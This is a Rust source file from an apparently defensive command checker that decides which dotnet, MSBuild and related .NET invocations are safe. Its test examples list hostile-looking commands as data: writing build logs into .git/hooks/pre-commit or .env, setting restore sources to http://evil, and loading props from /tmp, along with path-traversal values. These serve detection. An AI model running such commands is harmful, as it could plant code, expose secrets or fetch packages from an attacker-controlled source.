//! .NET: the dotnet command.

use super::super::fetched::Fetch;
use super::super::loaded::{Load, may_say};
use super::super::spec::{Program, Style, Unread, custom, group, parse, safe};
use super::{build, check, formatter, install, machine, publish, split_dashes, unread_code};
use crate::effect::Hazard;
use crate::effect::reading::{Invocation, Reading};
use crate::effect::value::Arg;
use crate::words::listed;
use alloc::vec::Vec;

macro_rules! common {
    () => {
        "-c: --configuration: -f: --framework: --runtime: -v: --verbosity: --arch: --os: --no-restore --no-dependencies --no-incremental --nologo -nologo --tl -m -maxcpucount --interactive=false --use-current-runtime --no-self-contained --self-contained "
    };
}
const BUILD: &str = concat!(common!(), "-r: -a: -o> --output> --artifacts-path> --version-suffix:");
const TEST: &str = concat!(
    common!(),
    "-o> --output> --filter: -l& --logger& --no-build -t --list-tests --blame --blame-hang --blame-hang-timeout: --blame-crash --collect& --results-directory> --diag> -s@ --settings@ --artifacts-path> --project@ --solution@ --max-parallel-test-modules: --report-trx --coverage"
);
const FORMAT: &str = "--verify-no-changes --no-restore --include: --exclude: --severity: --diagnostics: --exclude-diagnostics: --include-generated -v: --verbosity: --report> --binarylog>";

const NUGET_FETCHES: Fetch = Fetch::of(
    "nuget.config directory.packages.props directory.build.props directory.build.targets packages.lock.json",
);

/// .NET and its neighbours.
pub const PROGRAMS: &[Program] = &[
    // It may name a kit that lies in the project.
    custom("dotnet", dotnet)
        .loads_unless_check(&[Load::above("global.json").unless(|text| !may_say(text, &["paths"]))])
        .fetches(&NUGET_FETCHES),
    check("csharpier", "--check --no-cache --fast --skip-write --log-level: --config-path@", ">*"),
    check("fantomas", "--check --recurse -r --force", ">*"),
    custom("msbuild nuget paket fsi csi", unread_code),
];

const SUBS: &[Program] = &[
    custom("test", |reading, call| properties(reading, call, &check("test", TEST, "@*"))),
    custom("build", |reading, call| properties(reading, call, &build("build", BUILD, "@*"))),
    formatter("format", FORMAT, "@*"),
    group(
        "list",
        "",
        &[check(
            "package reference",
            "--include-transitive --framework: --format: --project@ -v: --verbosity:",
            "@*",
        )],
    ),
    group("sln solution", "", &[safe("list", "", ""), install("add remove migrate")]),
    safe("help", "", ""),
    install("restore add remove tool workload new package reference"),
    publish("publish nuget pack"),
    machine("clean dev-certs user-secrets store build-server sdk"),
    custom("run watch exec fsi msbuild vstest script ef", unread_code),
];

/// `dotnet --info`, subcommands, or a file to run.
fn dotnet(reading: &mut Reading<'_>, call: &Invocation) {
    if may_be_diagnostic(call) {
        let message = "`dotnet` would show the environment, secrets among it, in its diagnostic output";
        reading.hazard(Hazard::Secret, "secrets", message, None, call.span);
    }
    read_dotnet(reading, call);
    reading.loads_project(&call.name, call.span);
}

fn read_dotnet(reading: &mut Reading<'_>, call: &Invocation) {
    match call.args.first().and_then(Arg::text) {
        Some("--info" | "--list-sdks" | "--list-runtimes" | "--version" | "--help" | "-h") => {
            safe("dotnet", "--info --list-sdks --list-runtimes --version --help -h", "").read(reading, call);
        }
        Some("csharpier") => check("", "--check --no-cache --fast --skip-write --log-level:", ">*")
            .read(reading, &super::renamed(call, "csharpier", call.args.get(1..).unwrap_or_default())),
        Some(_) => group("dotnet", "", SUBS).read(reading, call),
        None => safe("dotnet", "", "").read(reading, call),
    }
}

/// The flags of dotnet, and among them switches of MSBuild: a word is one switch, never several of one letter.
fn properties(reading: &mut Reading<'_>, call: &Invocation, program: &Program) {
    let (own, behind) = split_dashes(&call.args);
    // Settings of the run, or arguments of the tests: both name places to write and code to load.
    if let Some(first) = behind.first() {
        return reading.unread(&call.name, Unread::value(first));
    }
    let args: Vec<Arg> =
        own.iter().filter(|arg| !arg.text().is_some_and(is_harmless_switch)).cloned().collect();
    let program = Program { style: Style::Whole, ..*program };
    if let Ok(parsed) = parse(program.style, program.flags, &args) {
        let values = parsed.flags.iter().filter(|flag| flag.marks == ":" && flag.name != "--filter");
        let odd = |value: &&Arg| !value.text().is_some_and(is_word);
        for value in values.filter_map(|flag| flag.value.as_ref()).filter(odd) {
            reading.unread(&call.name, Unread::value(value));
        }
        // Both of these become a slash here.
        let windows = |arg: &&Arg| arg.value.prefix().contains('\\') || arg.value.prefix().contains("%5");
        if let Some(arg) = args.iter().find(windows) {
            reading.unread(&call.name, Unread::value(arg));
        }
    }
    program.read(reading, &Invocation { args, ..call.clone() });
}

/// `-v diag`, `--verbosity:diagnostic`, `/v:diag`: the most talkative level begins with all variables.
fn may_be_diagnostic(call: &Invocation) -> bool {
    let is_flag = |name: &str| {
        let name = name.trim_start_matches(['-', '/']).to_ascii_lowercase();
        name == "v" || name == "verbosity"
    };
    let is_loud = |value: &str| value.to_ascii_lowercase().starts_with("diag");
    let mut behind_flag = false;
    call.args.iter().any(|arg| {
        let is_value = core::mem::take(&mut behind_flag);
        let Some(text) = arg.text() else {
            return is_value || arg.value.prefix().split([':', '=']).next().is_some_and(is_flag);
        };
        behind_flag = text.starts_with('-') && is_flag(text);
        let joined = text.split_once([':', '=']).is_some_and(|(name, value)| is_flag(name) && is_loud(value));
        joined || (is_value && is_loud(text))
    })
}

/// Properties that steer nothing but warnings and versions. Those of one switch are parted by `;` and `,`.
const PROPERTIES: &str = "Configuration WarningLevel TreatWarningsAsErrors CollectCoverage CoverletOutputFormat NoWarn Platform Version \
    ContinuousIntegrationBuild Deterministic UseSharedCompilation";

/// `-v:q`, `-p:Configuration=Release`: a switch with its value behind a colon, from a closed list.
fn is_harmless_switch(text: &str) -> bool {
    let Some(switch) = ["--", "-", "/"].iter().find_map(|dashes| text.strip_prefix(dashes)) else {
        return false;
    };
    let Some((name, value)) = switch.split_once(':') else {
        return matches!(text, "/nologo" | "/m");
    };
    match name {
        "v" | "verbosity" | "c" | "m" | "maxcpucount" | "tl" | "nr" | "nodeReuse" => is_word(value),
        "clp" | "consoleLoggerParameters" => value.split([';', ',', '=']).all(is_quiet_word),
        "p" | "property" => {
            value.split_once('=').is_some_and(|(name, value)| listed(PROPERTIES, name) && is_word(value))
        }
        _ => false,
    }
}

/// Neither the level nor the switch at which all variables are shown.
fn is_quiet_word(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    is_word(text) && !lower.starts_with("diag") && lower != "showenvironment"
}

/// Values become parts of paths.
fn is_word(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"._+-".contains(&b))
        && !text.contains("..")
}

#[cfg(test)]
const EXAMPLES: &str = r#"
    ask   dotnet build -v diag
    ask   dotnet build -v:diag
    ask   dotnet build --verbosity diagnostic
    ask   dotnet test -v=diag
    ask   dotnet build /v:diag
    ask   dotnet build -v "$LEVEL"
    ask   dotnet build -clp:v=diag
    ask   dotnet build -clp:ShowEnvironment
    allow dotnet build -v minimal
    allow dotnet test -v:n
        allow dotnet build -c Release -v:q -p:Configuration=Release -m:4 /nologo
        allow dotnet build "-clp:ErrorsOnly;Summary" --tl:off
        allow dotnet test -f net8.0 --runtime linux-x64 --blame-hang-timeout 5m
        ask   dotnet build -fl -flp:logfile=/tmp/x
        ask   dotnet build -fileLogger -fileLoggerParameters:LogFile=.git/hooks/pre-commit
        ask   dotnet build -flp:LogFile=.env -fl
        ask   dotnet build -fl9 -flp9:logfile=/etc/x
        ask   dotnet build -outputResultsCache:../x
        ask   dotnet build -rp:MSBuildProjectExtensionsPath=/tmp/x/
        ask   dotnet build -restoreProperty:RestoreSources=http://evil
        ask   dotnet build -cRelease
        ask   dotnet build "-p:NoWarn=1;OutputPath=/tmp/x"
        ask   dotnet build "-p:NoWarn=1,OutputPath=x"
        ask   dotnet build -p:Configuration=../../x
        ask   dotnet build -c ../../x
        ask   dotnet build -c '..\..\x'
        ask   dotnet build -o '..\x'
        ask   dotnet build "-clp:x;/tmp"
        ask   dotnet build -bl:/tmp/x
        ask   dotnet build -t:Publish
        ask   dotnet build @args
        ask   dotnet test -rp:CustomBeforeMicrosoftCommonProps=/tmp/x.props
        ask   dotnet test -target:Publish
        ask   dotnet test -flp:logfile=../x -fl
        ask   dotnet test -r /tmp/x
        ask   dotnet test -r results
        ask   dotnet test -a adapters
        ask   dotnet test -e X=y
        ask   dotnet test -- RunConfiguration.ResultsDirectory=/tmp/x
        ask   dotnet test -- RunConfiguration.TestAdaptersPaths=x
        ask   dotnet test -- MSTest.SettingsFile=x
        ask   dotnet test -- --results-directory=/tmp/x
        allow dotnet test --filter "FullyQualifiedName~X&Category=a"
"#;

#[cfg(test)]
mod tests {
    #[test]
    fn examples_read_as_they_should() {
        crate::effect::program::examples::run(super::EXAMPLES);
    }
}
